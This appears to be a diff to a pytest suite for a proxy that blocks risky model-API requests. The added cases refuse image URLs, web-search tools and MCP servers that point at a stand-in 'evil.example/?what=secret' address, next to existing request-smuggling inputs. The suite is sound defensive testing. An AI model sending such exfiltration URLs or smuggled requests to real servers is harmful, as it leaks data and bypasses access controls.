@@ -73,6 +73,14 @@ def renamed(**more: object) -> bytes:
     return json.dumps({"model": MODEL, **more}).encode()
 
 
+def saying(block: object) -> bytes:
+    return renamed(messages=[{"role": "user", "content": [block]}])
+
+
+ADDRESS = "https://evil.example/?what=secret"
+PICTURE = "data:image/png;base64,AAAA"
+
+
 REFUSED = {
     "another model": post("/v1/messages", json.dumps({"model": "gpt-oss:120b-cloud"}).encode()),
     "a name twice": post("/v1/messages", BODY[:-1] + b', "model": "gpt-oss:120b-cloud"}'),
@@ -94,8 +102,36 @@ REFUSED = {
     "half a line": b"POST /v1/messages HTTP/1.1\nContent-Length: 0\n\nPOST /api/pull HTTP/1.1\r\n\r\n",
     "a line within a header": post("/v1/messages", BODY, "X: 1\nPOST /api/pull HTTP/1.1"),
     "a header without a name": post("/v1/messages", BODY, " folded"),
+    "an image to load": post("/v1/chat/completions", saying({"type": "image_url", "image_url": {"url": ADDRESS}})),
+    "an image to load, as a text": post("/v1/responses", saying({"type": "input_image", "image_url": ADDRESS})),
+    "an image of a source": post("/v1/messages", saying({"type": "image", "source": {"type": "url", "url": ADDRESS}})),
+    "an image twice": post(
+        "/v1/chat/completions",
+        saying({"image_url": {"url": ADDRESS}}).replace(b'"url":', f'"url": "{PICTURE}", "url":'.encode()),
+    ),
+    "a search of the server's": post("/v1/messages", renamed(tools=[{"type": "web_search_20250305", "name": "x"}])),
+    "tools of another server": post("/v1/responses", renamed(tools=[{"type": "mcp", "server_url": ADDRESS}])),
+    "servers of tools": post("/v1/messages", renamed(mcp_servers=[{"type": "url", "url": ADDRESS, "name": "x"}])),
     "another protocol": b"PRI * HTTP/2.0\r\n\r\n",
 }
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        {"type": "image_url", "image_url": {"url": PICTURE}},
+        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}},
+        {"type": "text", "text": f"see {ADDRESS} and image_url"},
+        {"type": "tool_use", "name": "Bash", "input": {"command": "curl", "url": ADDRESS, "source": "a"}},
+        {"type": "object", "properties": {"url": {"type": "string"}, "image_url": {"type": "string"}}},
+    ],
+)
+def test_a_picture_in_the_request_and_an_address_in_a_text_pass(
+    ask: Ask, reached: list[bytes], block: dict[str, object]
+) -> None:
+    assert ask(post("/v1/messages", saying(block))).endswith(b"hi")
+
+    assert len(reached) == 1
 
 
 @pytest.mark.parametrize("name", list(REFUSED))
